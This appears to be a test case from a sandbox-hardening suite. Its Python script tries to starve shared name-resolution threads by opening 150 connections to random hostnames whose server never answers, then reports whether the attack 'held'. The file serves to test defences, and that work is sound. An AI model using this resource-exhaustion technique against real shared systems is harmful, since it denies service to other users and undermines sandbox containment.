# attack: names whose server never answers, to hold up others (asked)
# family: 19
# runs: exec
# stopped-by: gate-turns
# network: {"rules": [{"allow": ["allowed.example", "*.slow.example"]}]}
# pair: leave
# pair-name: slow_names
#
# Names are resolved by few threads that all sandboxes share; a name server that stays silent keeps them.
import os
import socket


def attack():
    waiting = []
    for number in range(150):
        s = socket.create_connection((f"{os.urandom(4).hex()}{number}.slow.example", 80), 5)
        s.sendall(b"hello, are you there?\r\n")
        waiting.append(s)
    return f"HELD: {len(waiting)} connections wait for their names"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
